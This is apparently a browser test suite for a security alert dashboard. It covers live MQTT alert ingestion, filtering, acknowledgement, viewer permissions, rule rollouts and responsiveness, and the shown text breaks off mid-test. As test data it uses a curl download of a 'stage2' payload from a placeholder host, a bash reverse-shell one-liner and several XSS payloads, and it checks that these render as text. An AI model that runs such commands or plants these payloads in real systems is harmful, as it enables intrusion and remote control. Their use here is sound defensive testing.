// The required browser tests: sign in; an alert ingested over MQTT shows up
// on the alerts page within 1 s; filter; open; acknowledge; a viewer cannot
// act; hostile command lines render as text; a screenshot of every page;
// rule bundles and the seeded staged rollout (pause, resume, live refresh,
// device groups and states, a hostile rule title, starting a rollout);
// page-load figures; the page stays responsive under a 1,000 alerts/s live
// feed. Tests run in order and share the backend state.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import {
  launch, context, signIn, shot, apiFromPage, publisher, pushBundle, median, ADMIN_PASSWORD, SEEDED_ALERTS, URL,
} from './helpers.js';

let browser;
let admin;
let page;
let pub;
let live;
let viewer;
let rollout;
const marker = `ui-test-${Date.now().toString(36)}`;

before(async () => {
  browser = await launch();
  admin = await context(browser);
  page = await admin.newPage();
  pub = await publisher();
});

after(async () => {
  pub?.close();
  await browser?.close();
});

test('security headers on the app and its assets', async () => {
  const r = await fetch(`${URL}/`);
  const csp = r.headers.get('content-security-policy');
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /script-src 'self'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
  const html = await r.text();
  const js = /src="([^"]+app\.js)"/.exec(html)[1];
  const a = await fetch(`${URL}${js}`);
  assert.equal(a.headers.get('content-type'), 'text/javascript; charset=utf-8');
  assert.match(a.headers.get('cache-control'), /immutable/);
});

test('sign in', async () => {
  await page.goto('/');
  await page.locator('[data-testid=login]').waitFor();
  await shot(page, 'login');
  // A wrong password is refused with a message.
  await page.locator('[data-testid=login] input[name=name]').fill('admin');
  await page.locator('[data-testid=login] input[name=password]').fill('wrong-password');
  await page.locator('[data-testid=login] button[type=submit]').click();
  await page.locator('.form-error', { hasText: 'Wrong user name or password' }).waitFor();
  await signIn(page, 'admin', ADMIN_PASSWORD);
  assert.match(await page.locator('[data-testid=user]').textContent(), /admin/);
  await page.locator('.overview[data-loaded]').waitFor({ timeout: 15000 });
  await shot(page, 'overview', { fullPage: true });
});

test('alerts page: 100 rows, page-load figures', async () => {
  const figures = [];
  for (let i = 0; i < 5; i += 1) {
    const p = await admin.newPage();
    const t0 = Date.now();
    await p.goto('/#/alerts');
    await p.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(99).waitFor();
    figures.push(Date.now() - t0);
    await p.close();
  }
  await page.goto('/#/alerts');
  const rows = page.locator('[data-testid=alerts-table] tbody tr[data-id]');
  await rows.nth(99).waitFor();
  assert.equal(await rows.count(), 100);
  // The next page by cursor.
  const first = await rows.first().getAttribute('data-id');
  const t0 = Date.now();
  await page.locator('[data-testid=older]').click();
  await page.waitForFunction((id) => {
    const r = document.querySelector('[data-testid=alerts-table] tbody tr[data-id]');
    return r && r.dataset.id !== id && document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 100;
  }, first);
  const olderMs = Date.now() - t0;
  console.log(`# page load: navigation to #/alerts until 100 rows rendered, ${SEEDED_ALERTS} stored alerts: median ${median(figures)} ms (runs: ${figures.join(', ')} ms); next page by cursor: ${olderMs} ms`);
  assert.ok(median(figures) < 3000, 'alerts page loads in under 3 s');
  await page.locator('[data-testid=newer]').click();
  await page.waitForFunction((id) => document.querySelector('[data-testid=alerts-table] tbody tr[data-id]')?.dataset.id === id, first);
  await shot(page, 'alerts');
});

test('an alert ingested over MQTT appears within 1 s', async () => {
  // A fresh first page (the previous test left the list on page two).
  await page.goto('/#/devices');
  await page.goto('/#/alerts');
  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(10).waitFor();
  await page.waitForFunction(() => document.querySelector('.live-dot.live-live'));
  const cmd = `/usr/bin/curl -fsSL http://${marker}.example.invalid/stage2 -o /tmp/.x`;
  const r = await pub.publish({ command_line: cmd, level: 'critical', rule_title: `Live test ${marker}`, rule_id: `rule-${marker}` });
  await page.locator(`[data-testid=alerts-table] tr[data-id="${r.id}"]`).waitFor({ timeout: 5000 });
  const seen = Date.now();
  const latency = seen - r.sent_ms;
  console.log(`# live: publish → row on the alerts page in ${latency} ms (broker ack after ${r.acked_ms - r.sent_ms} ms)`);
  assert.ok(latency < 1000, `alert shown ${latency} ms after publishing`);
  live = { ...r, cmd };
});

test('filter', async () => {
  assert.ok(live, 'needs the live alert');
  await page.locator('[data-testid=filter-q]').fill(marker);
  await page.waitForFunction(() => location.hash.includes('q='));
  const rows = page.locator('[data-testid=alerts-table] tbody tr[data-id]');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
  assert.equal(await rows.first().getAttribute('data-id'), live.id);
  // Level filter: the live alert is critical, so "≥ high" keeps it...
  await page.locator('[data-testid=filter-level]').selectOption('high');
  await page.waitForFunction(() => location.hash.includes('level=high'));
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
  // ...and "resolved" drops it.
  await page.locator('[data-testid=filter-status]').selectOption('resolved');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 0);
  await page.locator('[data-testid=filter-status]').selectOption('');
  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
  // Filters survive a reload (they live in the URL).
  await page.reload();
  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"]`).waitFor();
  assert.equal(await page.locator('[data-testid=filter-q]').inputValue(), marker);
  // Technique filter from the other end: a parent matches sub-techniques.
  await page.goto(`/#/alerts?technique=T1059&q=${marker}`);
  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"]`).waitFor();
  await page.goto(`/#/alerts?technique=T1003&q=${marker}`);
  await page.locator('.empty', { hasText: 'No alerts match' }).waitFor();
});

test('open an alert', async () => {
  await page.goto(`/#/alerts?q=${marker}`);
  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"] td.subject`).click();
  await page.waitForFunction((id) => location.hash === `#/alerts/${id}`, live.id);
  await page.locator('[data-testid=alert-title]').waitFor();
  assert.equal(await page.locator('[data-testid=alert-title]').textContent(), `Live test ${marker}`);
  assert.equal(await page.locator('[data-testid=command-line]').textContent(), live.cmd);
  assert.equal(await page.locator('[data-testid=rule-author]').textContent(), 'Picket UI tests');
  assert.ok(await page.locator('[data-testid=parent-image]').count() === 1, 'process ancestry shows the parent');
  const href = await page.locator('a.chip', { hasText: 'T1059.004' }).first().getAttribute('href');
  assert.equal(href, 'https://attack.mitre.org/techniques/T1059/004/');
  await shot(page, 'alert');
});

test('the alert page shows the rule text of a built-in rule', async () => {
  // picketd's built-in reverse-shell rule: the backend embeds its text
  const yaml = readFileSync(new globalThis.URL('../../../appliance/rules/reverse_shell.yml', import.meta.url), 'utf8');
  const ruleId = yaml.match(/^id:\s*(\S+)/m)[1];
  const r = await pub.publish({ command_line: 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', level: 'high', rule_title: `Reverse shell ${marker}`, rule_id: ruleId });
  // stored (the broker's ack comes before the backend's commit)
  for (let i = 0; i < 100 && (await apiFromPage(page, 'GET', `/alerts/${r.id}`)).status !== 200; i++) {
    await new Promise((ok) => setTimeout(ok, 50));
  }
  await page.goto(`/#/alerts/${r.id}`);
  await page.locator('[data-testid=rule-text]').waitFor();
  assert.equal(await page.locator('[data-testid=rule-text]').textContent(), yaml);
  // a rule the backend does not know says so
  await page.goto(`/#/alerts/${live.id}`);
  await page.locator('[data-testid=alert-title]').waitFor();
  await page.locator('.empty', { hasText: 'rules directory' }).waitFor();
});

test('acknowledge, assign, note', async () => {
  await page.goto(`/#/alerts/${live.id}`);
  await page.locator('[data-testid=ack]').click();
  await page.locator('.head-meta .badge.status-acknowledged').waitFor();
  await page.locator('[data-testid=assign-me]').click();
  await page.locator('.head-meta .chip', { hasText: 'assigned to admin' }).waitFor();
  await page.locator('[data-testid=note-text]').fill('Looked at it: <b>benign</b> test traffic');
  await page.locator('[data-testid=add-note]').click();
  await page.locator('[data-testid=notes] .note-text', { hasText: '<b>benign</b>' }).waitFor();
  // Stored, not just drawn.
  const r = await apiFromPage(page, 'GET', `/alerts/${live.id}`);
  const a = JSON.parse(r.body);
  assert.equal(a.status, 'acknowledged');
  assert.equal(a.assignee, 'admin');
  assert.equal(a.notes.at(-1).text, 'Looked at it: <b>benign</b> test traffic');
  await page.reload();
  await page.locator('.head-meta .badge.status-acknowledged').waitFor();
  // The history comes back from the audit log.
  await page.locator('[data-testid=notes] li.event', { hasText: 'status → acknowledged' }).waitFor();
  // Acknowledging left the assignee alone, and the history says so.
  assert.equal(await page.locator('[data-testid=notes] li.event', { hasText: 'unassigned' }).count(), 0);
  await shot(page, 'alert-acknowledged');
});

test('hostile command lines render as text', async () => {
  const hostile = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'];
  const ids = [];
  await page.goto('/#/alerts');
  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(10).waitFor();
  for (const cmd of hostile) {
    const r = await pub.publish({ command_line: cmd, image: '"><svg onload=alert(2)>', level: 'high', rule_title: `XSS probe ${marker}`, rule_id: `xss-${marker}` });
    ids.push(r.id);
    // Live row.
    const cell = page.locator(`[data-testid=alerts-table] tr[data-id="${r.id}"] td.subject`);
    await cell.waitFor();
    assert.equal(await cell.textContent(), cmd);
  }
  // Listed from the API.
  await page.goto(`/#/alerts?q=${encodeURIComponent('alert(1)')}`);
  for (const [i, id] of ids.entries()) {
    const cell = page.locator(`[data-testid=alerts-table] tr[data-id="${id}"] td.subject`);
    await cell.waitFor();
    assert.equal(await cell.textContent(), hostile[i]);
  }
  // Detail page.
  for (const [i, id] of ids.entries()) {
    await page.goto(`/#/alerts/${id}`);
    await page.locator('[data-testid=command-line]').waitFor();
    assert.equal(await page.locator('[data-testid=command-line]').textContent(), hostile[i]);
    assert.equal(await page.locator('[data-testid=image]').textContent(), '"><svg onload=alert(2)>');
    assert.equal(await page.locator('main img, main script, main svg[onload]').count(), 0);
  }
  await page.waitForTimeout(300);
  assert.deepEqual(admin.dialogs, [], 'no dialog fired');
  await shot(page, 'alert-hostile');
});

test('a viewer sees no actions and the server refuses them', async () => {
  // The admin creates the viewer through the Admin page.
  await page.goto('/#/admin/users');
  await page.locator('[data-testid=users-table] tbody tr').first().waitFor();
  const viewerPassword = `viewer-${marker}`;
  await page.locator('[data-testid=new-user-name]').fill(`viewer-${marker}`);
  await page.locator('[data-testid=new-user-password]').fill(viewerPassword);
  await page.locator('[data-testid=new-user-role]').selectOption('viewer');
  await page.locator('[data-testid=create-user]').click();
  await page.locator('[data-testid=users-table] td', { hasText: `viewer-${marker}` }).waitFor();
  await shot(page, 'admin-users');

  viewer = { name: `viewer-${marker}`, password: viewerPassword };
  const vctx = await context(browser);
  const v = await vctx.newPage();
  await signIn(v, `viewer-${marker}`, viewerPassword);
  assert.equal(await v.locator('nav [data-nav=admin]').count(), 0, 'no Admin link');
  await v.goto(`/#/alerts/${live.id}`);
  await v.locator('[data-testid=alert-title]').waitFor();
  assert.equal(await v.locator('[data-testid=workflow]').count(), 0, 'no workflow buttons');
  assert.equal(await v.locator('main button').count(), 0, 'no buttons at all on the alert page');
  assert.equal(await v.locator('[data-testid=note-text]').count(), 0, 'no note form');
  await shot(v, 'alert-viewer');
  // The server refuses what the page does not offer.
  const patch = await apiFromPage(v, 'PATCH', `/alerts/${live.id}`, { status: 'resolved' });
  assert.equal(patch.status, 403);
  const note = await apiFromPage(v, 'POST', `/alerts/${live.id}/notes`, { text: 'x' });
  assert.equal(note.status, 403);
  const users = await apiFromPage(v, 'GET', '/users');
  assert.equal(users.status, 403);
  const dev = await apiFromPage(v, 'GET', '/devices');
  const d = JSON.parse(dev.body)[0];
  await v.goto(`/#/devices/${d.id}`);
  await v.locator('.device-page h1').waitFor();
  await v.locator('[data-testid=device-groups]').waitFor();
  assert.equal(await v.locator('[data-testid=revoke]').count(), 0, 'no revoke button');
  assert.equal(await v.locator('[data-testid=groups-input]').count(), 0, 'no group editing');
  assert.deepEqual(vctx.problems, []);
  await vctx.close();
});

test('screenshots of the other pages', async () => {
  await page.goto('/#/devices');
  await page.locator('[data-testid=devices-table] tbody tr[data-id]').first().waitFor();
  await shot(page, 'devices');
  await page.locator('[data-testid=device-search]').fill('berlin');
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=devices-table] tbody tr[data-id] td:first-child')].every((td) => td.textContent.includes('berlin')));
  // A device that has sent a heartbeat (its agent version is known).
  const id = await page.evaluate(() => [...document.querySelectorAll('[data-testid=devices-table] tbody tr[data-id]')]
    .find((tr) => tr.children[3].textContent !== '')?.dataset.id);
  assert.ok(id, 'a device with a heartbeat');
  await page.goto(`/#/devices/${id}`);
  await page.locator('.device-page .alerts-table tbody tr').first().waitFor();
  await page.locator('.device-page [data-testid=revoke]').waitFor();
  await shot(page, 'device');
  await page.goto('/#/rules');
  await page.locator('[data-testid=rules-table]').waitFor({ timeout: 15000 });
  // The rules seen in alerts, below the bundles and rollouts.
  await page.evaluate(() => document.querySelector('.rules-page .section-head').scrollIntoView());
  await shot(page, 'rules');
  await page.goto('/#/admin/tokens');
  await page.locator('[data-testid=token-label]').fill('site 12 gateway');
  await page.locator('[data-testid=create-token]').click();
  await page.locator('[data-testid=token-value]').waitFor();
  assert.match(await page.locator('[data-testid=token-value]').textContent(), /^[0-9a-f]{32,}$/);
  await shot(page, 'admin-tokens');
  await page.goto('/#/admin/audit');
  await page.locator('[data-testid=audit-table] tbody tr').first().waitFor();
  await page.locator('[data-testid=audit-table] td', { hasText: 'alert.update' }).first().waitFor();
  await shot(page, 'admin-audit');
  await page.goto('/#/?range=7d');
  await page.locator('.overview[data-loaded]').waitFor({ timeout: 15000 });
  // All 14 ATT&CK tactics side by side at 1440 px.
  const tops = await page.locator('[data-testid=heatmap] .heat-head').evaluateAll((els) => els.map((e) => e.getBoundingClientRect().top));
  assert.ok(tops.length >= 14, `${tops.length} tactic columns`);
  assert.equal(new Set(tops).size, 1, 'the heat map does not wrap');
  await shot(page, 'overview-7d', { fullPage: true });
});

/** A rollout's progress as the API reports it. */
async function progress(p, id) {
  const r = await apiFromPage(p, 'GET', `/rollouts/${id}`);
  assert.equal(r.status, 200, r.body);
  return JSON.parse(r.body);
}

test('device inventory: endpoint agents beside appliances, with their platform', async () => {
  const seeded = JSON.parse(readFileSync(process.env.PICKET_SEED_STATE, 'utf8')).agents;
  assert.equal(seeded.length, 2, 'the seeder enrolled a Windows and a macOS agent');
  await page.goto('/#/devices');
  await page.locator('[data-testid=devices-table] tbody tr[data-id]').first().waitFor();
  // Appliances are Linux; each agent shows its own platform and version.
  await page.locator('[data-testid=device-platform]').selectOption('linux');
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=devices-table] tbody [data-testid=device-platform-cell]')].every((td) => td.textContent === 'Linux'));
  const linux = await page.locator('[data-testid=devices-table] tbody tr[data-id] [data-testid=device-platform-cell]').allTextContents();
  assert.ok(linux.length > 100 && linux.every((t) => t === 'Linux'), `appliances only: ${linux.length} rows`);
  for (const [value, label] of [['windows', 'Windows'], ['macos', 'macOS']]) {
    await page.locator('[data-testid=device-platform]').selectOption(value);
    const a = seeded.find((x) => x.platform === value);
    const row = page.locator(`[data-testid=devices-table] tbody tr[data-id="${a.id}"]`);
    await row.waitFor();
    assert.equal(await page.locator('[data-testid=devices-table] tbody tr[data-id]').count(), 1, `one ${value} agent`);
    assert.equal(await row.locator('[data-testid=device-platform-cell]').textContent(), label);
    assert.match(await row.textContent(), /1\.4\.0/, 'its agent version');
    assert.match(await row.textContent(), new RegExp(a.hostname));
  }
  assert.match(page.url(), /platform=macos/, 'the filter is in the URL');
  const mac = seeded.find((x) => x.platform === 'macos');
  await page.goto(`/#/devices/${mac.id}`);
  await page.locator('.device-page h1', { hasText: mac.hostname }).waitFor();
  assert.match(await page.locator('.device-page').textContent(), /PlatformmacOS/);
});

test('rules page: bundles and the staged rollout the seeder started', async () => {
  const rollouts = JSON.parse((await apiFromPage(page, 'GET', '/rollouts')).body);
  const open = rollouts.find((r) => r.state === 'running');
  assert.ok(open, `a running rollout (${rollouts.map((r) => `${r.version}: ${r.state}`).join(', ')})`);
  assert.ok(rollouts.some((r) => r.state === 'completed'), 'and a completed one');
  const p = await progress(page, open.id);
  assert.ok(p.states.active > 0 && p.states.failed > 0 && p.states.pending > 0 && p.states.downloading > 0,
    `devices in every state: ${JSON.stringify(p.states)}`);
  rollout = p;

  await page.goto('/#/rules');
  const detail = page.locator('[data-testid=rollout-detail]');
  await detail.waitFor({ timeout: 10000 });
  assert.equal(await detail.getAttribute('data-id'), String(open.id), 'the open rollout is shown');
  assert.equal(await detail.locator('[data-testid=rollout-state]').textContent(), 'running');
  assert.equal(await detail.locator('[data-testid=rollout-stage]').textContent(), `stage 1 of ${open.spec.stages.length}`);
  assert.equal(await detail.locator('[data-testid=rollout-assigned]').textContent(), `${p.assigned} of ${p.targeted}`);
  // Devices per state: the bar's legend says what the API says.
  for (const [state, n] of Object.entries(p.states)) {
    assert.equal(await detail.locator(`[data-testid=rollout-bar] ~ .legend [data-state=${state}]`).getAttribute('data-count'), String(n), state);
  }
  assert.equal(await detail.locator('[data-testid=rollout-stages] li').count(), open.spec.stages.length);
  assert.match(await detail.locator('[data-testid=rollout-failure-percent]').textContent(),
    new RegExp(`^${p.failure_percent.toFixed(1)} % of ${p.states.active + p.states.failed} finished devices failed`));
  assert.match(await detail.locator('[data-testid=rollout-alert-rate]').textContent(), /alerts since activation|not measured yet/);
  // Failed devices with their errors, linking to the device page.
  const failures = detail.locator('[data-testid=rollout-failures] tbody tr');
  assert.equal(await failures.count(), p.failures.length);
  const f = p.failures[0];
  const row = detail.locator(`[data-testid=rollout-failures] tr[data-device="${f.device_id}"]`);
  assert.equal(await row.locator('td').nth(1).textContent(), f.error);
  assert.equal(await row.locator('a').getAttribute('href'), `#/devices/${f.device_id}`);
  // Every rollout in the list, with its state; who started it in the history.
  for (const r of rollouts) {
    assert.equal(await page.locator(`[data-testid=rollouts-table] tr[data-id="${r.id}"]`).getAttribute('data-state'), r.state);
  }
  await detail.locator('[data-testid=rollout-history] td', { hasText: 'created' }).first().waitFor();

  // Bundles, newest first, with their device counts per state.
  const bundles = JSON.parse((await apiFromPage(page, 'GET', '/bundles')).body);
  assert.deepEqual(await page.locator('[data-testid=bundles-table] tbody tr').evaluateAll((trs) => trs.map((tr) => Number(tr.dataset.id))),
    bundles.map((b) => b.version));
  for (const b of bundles) {
    const tr = page.locator(`[data-testid=bundles-table] tr[data-id="${b.version}"]`);
    assert.equal(await tr.locator('td').nth(1).textContent(), String(b.rules.length));
    for (const [state, n] of Object.entries(b.devices)) {
      assert.equal(await tr.locator(`.badge[data-state=${state}]`).getAttribute('data-count'), String(n), `bundle ${b.version} ${state}`);
    }
  }
  // A bundle's rules on selection.
  const b = bundles.find((x) => x.version === open.version);
  await page.locator(`[data-testid=bundles-table] tr[data-id="${b.version}"] td`).first().click();
  await page.waitForFunction((v) => location.hash.includes(`bundle=${v}`), b.version);
  const rules = page.locator('[data-testid=bundle-rules] tbody tr');
  await rules.nth(b.rules.length - 1).waitFor();
  assert.equal(await rules.count(), b.rules.length);
  const titles = await page.locator('[data-testid=bundle-rules] .rule-name').allTextContents();
  assert.deepEqual([...titles].sort(), b.rules.map((r) => r.title).sort());
  await page.locator('[data-testid=bundle-rules] a.chip', { hasText: 'T1059.004' }).first().waitFor();
});

test('an operator pauses and resumes the rollout; the page follows changes made elsewhere', async () => {
  const id = rollout.rollout.id;
  const name = `operator-${marker}`;
  const password = `operator-${marker}-pw`;
  const created = await apiFromPage(page, 'POST', '/users', { name, password, role: 'operator' });
  assert.equal(created.status, 201, created.body);
  const octx = await context(browser);
  const op = await octx.newPage();
  await signIn(op, name, password);
  await op.goto(`/#/rules?rollout=${id}`);
  const detail = op.locator(`[data-testid=rollout-detail][data-id="${id}"]`);
  await detail.waitFor();
  await detail.locator('[data-testid=rollout-pause]').click();
  await detail.locator('[data-testid=rollout-state]', { hasText: 'paused' }).waitFor();
  let p = await progress(op, id);
  assert.equal(p.rollout.state, 'paused');
  assert.equal(p.rollout.status.reason, `paused by ${name}`);
  await detail.locator('[data-testid=rollout-reason]', { hasText: `paused by ${name}` }).waitFor();
  assert.equal(await detail.locator('[data-testid=rollout-pause]').count(), 0, 'no pause button while paused');

  await detail.locator('[data-testid=rollout-resume]').click();
  await detail.locator('[data-testid=rollout-state]', { hasText: 'running' }).waitFor();
  p = await progress(op, id);
  assert.equal(p.rollout.state, 'running');
  assert.equal(p.rollout.status.stage, 0, 'resuming does not promote');
  assert.deepEqual(p.rollout.status.history.slice(-2).map((e) => [e.actor, e.action]), [[name, 'paused'], [name, 'resumed']]);
  await detail.locator('[data-testid=rollout-history] td', { hasText: 'resumed' }).waitFor();

  // Abort asks first; saying no changes nothing.
  const dialogs = octx.dialogs.length;
  await detail.locator('[data-testid=rollout-abort]').click();
  await op.waitForFunction(() => !document.querySelector('[data-testid=rollout-abort]')?.disabled);
  assert.equal(octx.dialogs.length, dialogs + 1, 'a confirmation');
  assert.match(octx.dialogs.pop(), /^confirm: Abort the rollout of bundle \d+\?/);
  assert.equal((await progress(op, id)).rollout.state, 'running');

  // Paused through the API: the open page shows it within a poll (3 s).
  const t0 = Date.now();
  assert.equal((await apiFromPage(op, 'POST', `/rollouts/${id}/pause`)).status, 200);
  await detail.locator('[data-testid=rollout-state]', { hasText: 'paused' }).waitFor({ timeout: 8000 });
  const pausedMs = Date.now() - t0;
  assert.equal((await apiFromPage(op, 'POST', `/rollouts/${id}/resume`)).status, 200);
  await detail.locator('[data-testid=rollout-state]', { hasText: 'running' }).waitFor({ timeout: 8000 });
  console.log(`# rollout: a pause through the API shown on the open rules page after ${pausedMs} ms`);

  await op.goto(`/#/rules?rollout=${id}&bundle=${rollout.rollout.version}`);
  await op.locator('[data-testid=bundle-rules] tbody tr').first().waitFor();
  await detail.locator('[data-testid=rollout-failures] tbody tr').first().waitFor();
  await shot(op, 'rules-bundles', { fullPage: true });
  assert.deepEqual(octx.problems, []);
  await octx.close();
});

test('device page: groups, the bundle it is told to run, its states with errors', async () => {
  // The failed device with the most history (the seeder fails canary devices
  // first: bundle 7 active, bundle 8 failed).
  let f;
  let api;
  for (const x of rollout.failures) {
    const b = JSON.parse((await apiFromPage(page, 'GET', `/devices/${x.device_id}/bundles`)).body);
    if (!api || b.states.length > api.states.length) [f, api] = [x, b];
  }
  await page.goto(`/#/devices/${f.device_id}`);
  const failed = page.locator(`[data-testid=device-bundle-states] tr[data-version="${f.version}"][data-state=failed]`);
  await failed.waitFor();
  assert.equal(await failed.locator('td').nth(3).textContent(), f.error);
  assert.equal(await page.locator('[data-testid=device-bundle-states] tbody tr').count(), api.states.length);
  assert.deepEqual(await page.locator('[data-testid=device-groups] .chip').allTextContents(), api.groups);
  assert.match(await page.locator('[data-testid=device-assignment]').textContent(), new RegExp(`^bundle ${api.assignment.version} by rollout #${api.assignment.rollout_id}`));
  // An operator edits the groups.
  const groups = [...api.groups, `ui-${marker}`];
  await page.locator('[data-testid=groups-input]').fill(groups.join(', '));
  await page.locator('[data-testid=save-groups]').click();
  await page.locator('[data-testid=device-groups] .chip', { hasText: `ui-${marker}` }).waitFor();
  const after = JSON.parse((await apiFromPage(page, 'GET', `/devices/${f.device_id}/bundles`)).body);
  assert.deepEqual([...after.groups].sort(), [...groups].sort());
  await shot(page, 'device-bundles');
});

test('a viewer sees the rollout but no buttons, and the server refuses the actions', async () => {
  assert.ok(viewer && rollout, 'needs the viewer and the rollout');
  const vctx = await context(browser);
  const v = await vctx.newPage();
  await signIn(v, viewer.name, viewer.password);
  await v.goto(`/#/rules?bundle=${rollout.rollout.version}`);
  await v.locator('[data-testid=rollout-detail] [data-testid=rollout-state]').waitFor();
  await v.locator('[data-testid=bundle-rules] tbody tr').first().waitFor();
  await v.locator('[data-testid=rules-table]').waitFor({ timeout: 15000 });
  assert.equal(await v.locator('main button').count(), 0, 'no buttons on the rules page');
  assert.equal(await v.locator('[data-testid=rollout-actions], [data-testid=new-rollout]').count(), 0);
  for (const action of ['pause', 'abort']) {
    assert.equal((await apiFromPage(v, 'POST', `/rollouts/${rollout.rollout.id}/${action}`)).status, 403, action);
  }
  assert.equal((await apiFromPage(v, 'PUT', `/devices/${rollout.failures[0].device_id}/groups`, { groups: [] })).status, 403);
  assert.deepEqual(vctx.problems, []);
  await vctx.close();
});

test('a hostile rule title renders as text; starting a rollout from the form', async () => {
  const title = `"><img src=x onerror=alert(1)><script>alert(2)</script> ${marker}`;
  const version = Math.max(...JSON.parse((await apiFromPage(page, 'GET', '/bundles')).body).map((b) => b.version)) + 1;
  const b = pushBundle(version, title);
  assert.equal(b.version, version);
  assert.ok(b.rules.some((r) => r.title === title), JSON.stringify(b.rules));
  await page.goto(`/#/rules?bundle=${version}`);
  const cell = page.locator('[data-testid=bundle-rules] .rule-name', { hasText: marker });
  await cell.waitFor();
  assert.equal(await cell.textContent(), title);
  assert.equal(await page.locator('main img, main script').count(), 0);

  // Start its rollout: it supersedes the open one.
  const before = rollout.rollout.id;
  await page.locator('[data-testid=new-rollout-version]').selectOption(String(version));
  await page.locator('[data-testid=new-rollout-stages]').fill('20, 100');
  await page.locator('[data-testid=start-rollout]').click();
  const detail = page.locator('[data-testid=rollout-detail][data-state=running]', { hasText: `of bundle ${version}` });
  await detail.waitFor();
  const rollouts = JSON.parse((await apiFromPage(page, 'GET', '/rollouts')).body);
  assert.equal(rollouts[0].version, version);
  assert.equal(rollouts[0].state, 'running');
  assert.deepEqual(rollouts[0].spec.stages, [20, 100]);
  assert.equal(rollouts.find((r) => r.id === before).state, 'superseded');
  await page.locator(`[data-testid=rollouts-table] tr[data-id="${before}"][data-state=superseded]`).waitFor();
  assert.equal(await detail.locator('[data-testid=rollout-stage]').textContent(), 'stage 1 of 2');
  await page.waitForTimeout(300);
  assert.deepEqual(admin.dialogs, [], 'no dialog fired');
});

test('live feed at 1,000 alerts/s: the page stays responsive', async () => {
  await page.goto('/#/devices');
  await page.goto('/#/alerts');
  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(10).waitFor();
  await page.waitForFunction(() => document.querySelector('.live-dot.live-live'));
  // Frame gaps and the delay before a click handler runs, measured in the page.
  await page.evaluate(() => {
    const m = { gaps: [], clicks: [], stop: false };
    window.__probe = m;
    let last = performance.now();
    const frame = (t) => {
      m.gaps.push(t - last);
      last = t;
      if (!m.stop) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    document.querySelector('h1').addEventListener('click', (e) => m.clicks.push(performance.now() - e.timeStamp));
  });
  const seconds = 5;
  const burst = pub.burst(1000 * seconds, 1000);
  // Raw mouse clicks (no actionability checks) on the heading, about 5 a second.
  const box = await page.locator('h1').boundingBox();
  const clickRtt = [];
  let done = false;
  burst.then(() => { done = true; });
  while (!done) {
    const t0 = Date.now();
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    clickRtt.push(Date.now() - t0);
    await page.waitForTimeout(200);
  }
  const r = await burst;
  // The last alert of the burst reaches the table.
  await page.locator(`[data-testid=alerts-table] tr[data-id="${r.last_id}"]`).waitFor({ timeout: 5000 });
  const drawnMs = Date.now() - r.acked_ms;
  const m = await page.evaluate(() => {
    window.__probe.stop = true;
    return window.__probe;
  });
  const rows = await page.locator('[data-testid=alerts-table] tbody tr[data-id]').count();
  const gaps = m.gaps.slice(1);
  const maxGap = Math.round(Math.max(...gaps));
  const p95 = Math.round([...gaps].sort((a, b) => a - b)[Math.floor(gaps.length * 0.95)]);
  const maxClick = Math.round(Math.max(...m.clicks));
  console.log(`# live burst: ${r.burst} alerts in ${r.acked_ms - r.started_ms} ms; ${gaps.length} frames, gap p95 ${p95} ms, longest ${maxGap} ms; `
    + `click handler delay max ${maxClick} ms (${m.clicks.length} clicks, round trip median ${median(clickRtt)} ms); `
    + `last alert drawn ${drawnMs} ms after the broker acked it; ${rows} rows`);
  assert.ok(m.clicks.length >= seconds * 2, `${m.clicks.length} clicks handled`);
  assert.ok(maxClick < 200, `a click waited ${maxClick} ms for its handler`);
  // Frames also wait for the CPU the backend and the publisher share with the
  // browser on a small CI machine: bound the typical gap tightly, the worst loosely.
  assert.ok(p95 < 150, `95th percentile frame gap ${p95} ms`);
  assert.ok(maxGap < 500, `a frame took ${maxGap} ms`);
  assert.ok(rows <= 100, `${rows} rows drawn`);
  assert.equal(await page.locator('.notice:not(.hidden)', { hasText: 'skipped' }).count(), 0, 'no events skipped');
});

test('hunts: upload an EVTX file, progress to done, timeline with rule and author, the job\'s alerts', async () => {
  const evtx = process.env.PICKET_HUNT_EVTX;
  assert.ok(evtx, 'run.sh sets PICKET_HUNT_EVTX');
  await page.goto('/#/hunts');
  await page.locator('.hunts-page[data-loaded]').waitFor();
  await page.locator('[data-testid=hunt-name]').fill(`hunt ${marker}`);
  await page.locator('[data-testid=hunt-files]').setInputFiles(evtx);
  await page.locator('[data-testid=hunt-submit]').click();
  const row = page.locator('[data-testid=hunts-table] tbody tr', { hasText: `hunt ${marker}` });
  await row.waitFor();
  // The list follows the job to its end (live feed and poll).
  await row.locator('[data-testid=hunt-state]', { hasText: 'done' }).waitFor({ timeout: 60000 });
  const bar = row.locator('[data-testid=hunt-progress]');
  assert.equal(await bar.getAttribute('value'), await bar.getAttribute('max'), 'progress reached the total');
  await shot(page, 'hunts');
  const id = await row.getAttribute('data-id');
  await row.locator('a', { hasText: `hunt ${marker}` }).click();
  await page.locator(`.hunt-page[data-state=done]`).waitFor();
  assert.equal(await page.locator('[data-testid=hunt-file][data-state=done]').count(), 1);
